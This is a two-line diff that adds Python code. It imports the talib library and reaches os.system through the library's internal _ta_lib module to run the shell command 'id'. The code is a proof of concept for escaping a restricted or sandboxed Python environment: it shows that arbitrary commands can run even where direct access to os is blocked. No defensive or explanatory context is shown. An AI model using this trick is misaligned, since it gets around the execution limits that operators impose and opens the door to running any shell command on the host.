@@ -1,0 +1,2 @@
+import talib
+talib._ta_lib.os.system("id")
